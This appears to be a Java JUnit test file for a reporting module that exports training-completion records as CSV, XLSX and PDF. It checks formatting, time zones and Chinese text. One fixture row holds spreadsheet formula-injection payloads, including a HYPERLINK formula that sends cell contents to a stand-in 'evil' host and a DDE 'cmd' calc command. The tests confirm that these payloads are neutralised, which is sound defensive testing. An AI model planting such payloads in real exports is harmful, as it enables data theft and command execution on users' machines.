package com.servicecraft.reporting.export;

import com.servicecraft.reporting.CompletionQuery.Summary;
import com.servicecraft.reporting.CompletionRecord;
import com.servicecraft.reporting.CompletionStatus;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The three export formats, cell by cell, and formula injection neutralized in CSV and XLSX. */
class CompletionExportsTest {
    static final Instant DONE = Instant.parse("2026-10-02T08:43:20Z");

    static final List<CompletionRecord> ROWS = List.of(
            new CompletionRecord(1, "E1", "张伟", "销售部", "顾问", "Cohort A", "m1", "服务礼仪", 1, "v1",
                    LocalDate.parse("2026-10-01"), LocalDate.parse("2026-12-31"), CompletionStatus.COMPLETED,
                    Instant.parse("2026-10-02T08:00:00Z"), DONE, 80.0, 72.5, 2, 800, 90.0, true, "APPROVED", "SC-ABC", DONE),
            new CompletionRecord(2, "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
                    "\tTabbed", "m1", "Line one\nline \"two\"", 1, "v1", null, null, CompletionStatus.FAILED, null, null, 40.0, 30.0,
                    2, 60, null, null, null, null, DONE),
            new CompletionRecord(3, "\rCR", "Plain", null, null, null, CompletionRecord.COURSE, "客户服务培训", 1000, "c1",
                    null, LocalDate.parse("2026-11-01"), CompletionStatus.OVERDUE, null, null, null, null, 0, 0, null, null, null,
                    null, DONE));

    static List<String> headers() {
        return CompletionColumns.ALL.stream().map(CompletionColumns.Column::key).toList();
    }

    /** The start-up warm-up (ApplicationStartup) writes a workbook without rows or words and leaves nothing behind. */
    @Test
    void theXlsxWarmUpNeedsNoRowsAndNoWords() {
        org.junit.jupiter.api.Assertions.assertDoesNotThrow(XlsxCompletionWriter::warmUp);
    }

    @Test
    void csvIsUtf8WithBomRfc4180AndEveryCellAsExpected() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (CsvCompletionWriter w = new CsvCompletionWriter(out, headers(), CompletionColumns.Words.CODES)) {
            ROWS.forEach(w);
        }
        byte[] bytes = out.toByteArray();
        assertEquals((byte) 0xEF, bytes[0]);
        assertEquals((byte) 0xBB, bytes[1]);
        assertEquals((byte) 0xBF, bytes[2]);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.contains("\r\n"), "RFC 4180 line ends");
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
        assertEquals(4, records.size(), "multi-line text stays in its cell");
        assertEquals(headers(), records.get(0).toList());
        assertEquals(List.of("E1", "张伟", "销售部", "顾问", "Cohort A", "m1", "服务礼仪", "v1", "2026-10-01", "2026-12-31",
                "completed", "2026-10-02T08:00:00Z", "2026-10-02T08:43:20Z", "80", "72.5", "2", "13", "90", "passed", "approved",
                "SC-ABC"), records.get(1).toList());
        CSVRecord evil = records.get(2);
        assertEquals("'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", evil.get(0));
        assertEquals("'+cmd|' /C calc'!A0", evil.get(1));
        assertEquals("'-1+1", evil.get(2));
        assertEquals("'@SUM(A1:A9)", evil.get(3));
        assertEquals("'\tTabbed", evil.get(4));
        assertEquals("Line one\nline \"two\"", evil.get(6));
        assertEquals("40", evil.get(13), "numbers are numbers, not neutralized");
        assertEquals("'\rCR", records.get(3).get(0));
        assertEquals("COURSE", records.get(3).get(5));
        assertEquals("", records.get(3).get(13));
    }

    @Test
    void peopleReadTimesInTheOrganisationsZoneWithItsOffset() {
        CompletionColumns.Words shanghai = new CompletionColumns.Words() {
            @Override
            public String status(CompletionStatus status) {
                return status.code();
            }

            @Override
            public String word(String code) {
                return code;
            }

            @Override
            public java.time.ZoneId zone() {
                return java.time.ZoneId.of("Asia/Shanghai");
            }
        };
        CompletionColumns.Column completed = CompletionColumns.ALL.stream().filter(c -> c.key().equals("completedAt")).findFirst().orElseThrow();

        assertEquals("2026-10-02T16:43:20+08:00", CompletionColumns.text(completed, ROWS.get(0), shanghai));
        assertEquals("2026-10-02T08:43:20Z", CompletionColumns.text(completed, ROWS.get(0), CompletionColumns.Words.CODES), "the API: UTC");
        assertEquals(com.servicecraft.shared.time.OrganisationZone.zone(),
                com.servicecraft.reporting.CompletionExports.words(java.util.Locale.ENGLISH).zone(), "HR exports: the organisation's zone");
    }

    @Test
    void xlsxHasTypedCellsFrozenHeaderAutofilterWidthsAndNeutralizedText() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XlsxCompletionWriter w = new XlsxCompletionWriter("Records", headers(), CompletionColumns.Words.CODES, ZoneOffset.UTC)) {
            ROWS.forEach(w);
            w.finish(out);
        }
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            XSSFSheet sheet = wb.getSheet("Records");
            assertEquals(3, sheet.getLastRowNum());
            assertEquals("employeeNumber", sheet.getRow(0).getCell(0).getStringCellValue());
            assertTrue(sheet.getRow(0).getCell(0).getCellStyle().getFont().getBold());
            assertEquals(1, sheet.getPaneInformation().getHorizontalSplitPosition(), "header row frozen");
            assertNotNull(sheet.getCTWorksheet().getAutoFilter());
            assertEquals("A1:U4", sheet.getCTWorksheet().getAutoFilter().getRef());
            assertEquals(14 * 256, sheet.getColumnWidth(0));

            var r1 = sheet.getRow(1);
            assertEquals("张伟", r1.getCell(1).getStringCellValue());
            Cell assigned = r1.getCell(8);
            assertEquals(CellType.NUMERIC, assigned.getCellType());
            assertTrue(DateUtil.isCellDateFormatted(assigned));
            assertEquals(LocalDateTime.parse("2026-10-01T00:00"), assigned.getLocalDateTimeCellValue());
            assertEquals(LocalDateTime.parse("2026-10-02T08:43:20"), r1.getCell(12).getLocalDateTimeCellValue());
            assertTrue(DateUtil.isCellDateFormatted(r1.getCell(12)));
            assertEquals(CellType.NUMERIC, r1.getCell(13).getCellType());
            assertEquals(80.0, r1.getCell(13).getNumericCellValue());
            assertEquals(72.5, r1.getCell(14).getNumericCellValue());
            assertEquals(2.0, r1.getCell(15).getNumericCellValue());
            assertEquals("completed", r1.getCell(10).getStringCellValue());
            assertEquals("SC-ABC", r1.getCell(20).getStringCellValue());

            var evil = sheet.getRow(2);
            for (int i = 0; i <= 4; i++) {
                assertEquals(CellType.STRING, evil.getCell(i).getCellType());
                assertTrue(evil.getCell(i).getStringCellValue().startsWith("'"), evil.getCell(i).getStringCellValue());
            }
            assertEquals("'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", evil.getCell(0).getStringCellValue());
            assertEquals("'-1+1", evil.getCell(2).getStringCellValue());
            assertEquals("'\rCR", sheet.getRow(3).getCell(0).getStringCellValue());
            assertEquals(null, sheet.getRow(3).getCell(13), "no score: empty cell");
        }
    }

    @Test
    void pdfSummaryListsDepartmentsGroupsAndTheChartInChinese() throws Exception {
        Map<CompletionStatus, Long> totals = new EnumMap<>(CompletionStatus.class);
        totals.put(CompletionStatus.COMPLETED, 3L);
        totals.put(CompletionStatus.FAILED, 1L);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PdfCompletionSummary.write(out, key -> switch (key) {
            case "records.pdf.title" -> "培训完成记录 Completion records";
            case "records.chart.title" -> "各部门完成率";
            default -> key;
        }, "2026-11-22 10:00", "department=1", totals,
                List.of(new Summary("销售部", 4, 3, 0, 0, 1, 0, 0), new Summary("Service", 3, 0, 1, 1, 0, 1, 0)),
                List.of(new Summary("Cohort A", 6, 3, 1, 1, 0, 1, 0)));
        try (var doc = Loader.loadPDF(out.toByteArray())) {
            String text = new PDFTextStripper().getText(doc);
            assertTrue(text.contains("培训完成记录 Completion records"), text);
            assertTrue(text.contains("各部门完成率"), text);
            assertTrue(text.contains("销售部"), text);
            assertTrue(text.contains("75%"), text);
            assertTrue(text.contains("Cohort A"), text);
            assertTrue(text.contains("department=1"), text);
        }
    }
}
